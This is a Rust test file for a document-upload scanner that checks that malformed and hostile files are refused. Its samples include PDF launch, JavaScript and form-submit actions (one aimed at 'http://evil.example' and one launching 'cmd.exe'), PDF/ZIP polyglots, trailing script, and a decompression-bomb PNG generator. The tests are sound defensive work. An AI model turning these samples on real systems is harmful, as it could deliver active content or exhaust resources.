//! The malformed corpus (R4.4; research/security.md rows 24–29): each hostile or broken file is
//! refused with its reason, and the good ones pass.
use motcua_domain::dossier::FileKind;
use motcua_scan::samples::{jpeg, pdf, pdf_with};
use motcua_scan::{Allow, Problem, inspect};

fn check(kind: FileKind, bytes: &[u8]) -> Result<(), Problem> {
    inspect(kind, bytes, Allow::default())
}

#[test]
fn good_files_pass() {
    check(FileKind::Pdf, &pdf(5000)).unwrap();
    check(FileKind::Pdf, &pdf(300)).unwrap();
    check(FileKind::Jpeg, &jpeg(4000)).unwrap();
    check(FileKind::Png, &png_image(64, 48)).unwrap();
    check(FileKind::Webp, &webp_image(32, 32)).unwrap();
    check(FileKind::Heic, &heic(4000, 3000)).unwrap();
    assert_eq!(pdf(5000).len(), 5000);
    assert_eq!(jpeg(4000).len(), 4000);
    assert_eq!(pdf(1024 * 1024 + 10).len(), 1024 * 1024 + 10);
}

#[test]
fn a_truncated_pdf_is_refused() {
    let whole = pdf(4000);
    for cut in [100, 2000, whole.len() - 10] {
        assert!(
            matches!(
                check(FileKind::Pdf, &whole[..cut]),
                Err(Problem::PdfBroken(_))
            ),
            "cut at {cut}"
        );
    }
}

#[test]
fn a_pdf_with_a_broken_cross_reference_table_is_refused() {
    let mut v = pdf(3000);
    let at = v.windows(4).position(|w| w == b"xref").unwrap();
    v[at..at + 4].copy_from_slice(b"xxxx");
    assert!(matches!(
        check(FileKind::Pdf, &v),
        Err(Problem::PdfBroken(_))
    ));
}

#[test]
fn a_pdf_with_no_pages_is_refused() {
    let v = pdf(3000);
    let t = String::from_utf8_lossy(&v).replace("/Kids [3 0 R] /Count 1", "/Kids [] /Count 0");
    assert!(matches!(
        check(FileKind::Pdf, t.as_bytes()),
        Err(Problem::PdfBroken(_))
    ));
}

#[test]
fn scripts_and_actions_in_a_pdf_are_refused() {
    for extra in [
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "/AA << /O << /S /JavaScript /JS (x) >> >>",
        "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>",
        "/AcroForm << /Fields [] /XFA (x) >>",
        "/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
    ] {
        let v = pdf_with("script", extra, 3000);
        assert!(
            matches!(check(FileKind::Pdf, &v), Err(Problem::PdfActive(_))),
            "{extra}"
        );
    }
}

#[test]
fn an_embedded_file_is_refused_unless_the_component_allows_it() {
    let v = pdf_with(
        "bundle",
        "/Names << /EmbeddedFiles << /Names [(a.txt) << /Type /Filespec /F (a.txt) >>] >> >>",
        3000,
    );
    assert_eq!(check(FileKind::Pdf, &v), Err(Problem::PdfEmbedded));
    let allow = Allow {
        embedded_files: true,
    };
    inspect(FileKind::Pdf, &v, allow).unwrap();
}

#[test]
fn a_pdf_and_zip_polyglot_is_refused() {
    let mut v = pdf(3000);
    // A ZIP appended: its local header, and the end-of-central-directory record.
    v.extend(b"PK\x03\x04\x14\x00\x00\x00\x00\x00");
    v.extend(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x2e\x00\x00\x00\x10\x00\x00\x00\x00\x00");
    assert!(matches!(check(FileKind::Pdf, &v), Err(Problem::Hidden(_))));
    // Hidden inside a comment before the end marker, it is still a ZIP to an unpacker.
    let zip = "PK\u{5}\u{6}";
    let t = String::from_utf8_lossy(&pdf(3000)).replace("% motcua ", &format!("% motcua {zip}"));
    assert!(matches!(
        check(FileKind::Pdf, t.as_bytes()),
        Err(Problem::Hidden(_))
    ));
}

#[test]
fn anything_after_a_pdf_end_is_refused() {
    let mut v = pdf(3000);
    v.extend(b"<html><script>alert(1)</script></html>");
    assert!(matches!(
        check(FileKind::Pdf, &v),
        Err(Problem::PdfBroken(_))
    ));
}

#[test]
fn a_decompression_bomb_png_is_refused_before_decoding() {
    let v = png_header_only(50_000, 50_000);
    assert_eq!(
        check(FileKind::Png, &v),
        Err(Problem::TooManyPixels(50_000, 50_000))
    );
}

#[test]
fn broken_images_are_refused() {
    let j = jpeg(4000);
    assert!(matches!(
        check(FileKind::Jpeg, &j[..j.len() / 2]),
        Err(Problem::ImageBroken(_))
    ));
    let p = png_image(64, 48);
    assert!(matches!(
        check(FileKind::Png, &p[..p.len() - 30]),
        Err(Problem::ImageBroken(_))
    ));
    let mut trailing = png_image(64, 48);
    trailing.extend(b"%PDF-1.7 hidden");
    assert!(matches!(
        check(FileKind::Png, &trailing),
        Err(Problem::Hidden(_))
    ));
    let w = webp_image(32, 32);
    assert!(matches!(
        check(FileKind::Webp, &w[..w.len() - 8]),
        Err(Problem::ImageBroken(_))
    ));
}

#[test]
fn heic_boxes_are_checked() {
    let big = heic(60_000, 60_000);
    assert_eq!(
        check(FileKind::Heic, &big),
        Err(Problem::TooManyPixels(60_000, 60_000))
    );
    let good = heic(4000, 3000);
    assert!(matches!(
        check(FileKind::Heic, &good[..good.len() - 5]),
        Err(Problem::ImageBroken(_))
    ));
}

#[test]
fn a_cms_file_must_be_signed_data_and_nothing_more() {
    assert_eq!(
        check(FileKind::Cms, b"0\x82\x01\x00garbage"),
        Err(Problem::CmsBroken)
    );
    // A DER SEQUENCE that is not a ContentInfo of SignedData.
    assert_eq!(
        check(FileKind::Cms, &[0x30, 0x03, 0x02, 0x01, 0x00]),
        Err(Problem::CmsBroken)
    );
}

fn png_image(w: u32, h: u32) -> Vec<u8> {
    let img = image::RgbImage::from_fn(w, h, |x, y| image::Rgb([x as u8, y as u8, 7]));
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

fn webp_image(w: u32, h: u32) -> Vec<u8> {
    let img = image::RgbaImage::from_fn(w, h, |x, y| image::Rgba([x as u8, y as u8, 7, 255]));
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::WebP).unwrap();
    out.into_inner()
}

/// A PNG that declares `w` × `h` in its header, with one tiny data chunk: decoding it whole
/// would take w × h × 3 bytes.
fn png_header_only(w: u32, h: u32) -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    chunk(&mut v, b"IHDR", &ihdr);
    chunk(
        &mut v,
        b"IDAT",
        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    );
    chunk(&mut v, b"IEND", &[]);
    v
}

fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend((data.len() as u32).to_be_bytes());
    let mut crc_of = kind.to_vec();
    crc_of.extend(data);
    out.extend(&crc_of);
    out.extend(crc32(&crc_of).to_be_bytes());
}

fn crc32(data: &[u8]) -> u32 {
    let mut c = 0xFFFF_FFFFu32;
    for b in data {
        c ^= u32::from(*b);
        for _ in 0..8 {
            c = if c & 1 == 1 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
        }
    }
    !c
}

/// An ISO base media file shaped like a HEIC: `ftyp`, `meta` with an `ispe` of `w` × `h`, and
/// `mdat`.
fn heic(w: u32, h: u32) -> Vec<u8> {
    fn bx(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
        let mut v = ((body.len() + 8) as u32).to_be_bytes().to_vec();
        v.extend(kind);
        v.extend(body);
        v
    }
    let mut ispe = vec![0, 0, 0, 0];
    ispe.extend(w.to_be_bytes());
    ispe.extend(h.to_be_bytes());
    let ipco = bx(b"ipco", &bx(b"ispe", &ispe));
    let iprp = bx(b"iprp", &ipco);
    let mut meta = vec![0, 0, 0, 0];
    meta.extend(bx(b"hdlr", &[0; 24]));
    meta.extend(iprp);
    let mut v = bx(b"ftyp", b"heic\0\0\0\0mif1heic");
    v.extend(bx(b"meta", &meta));
    v.extend(bx(b"mdat", &[0x42; 64]));
    v
}
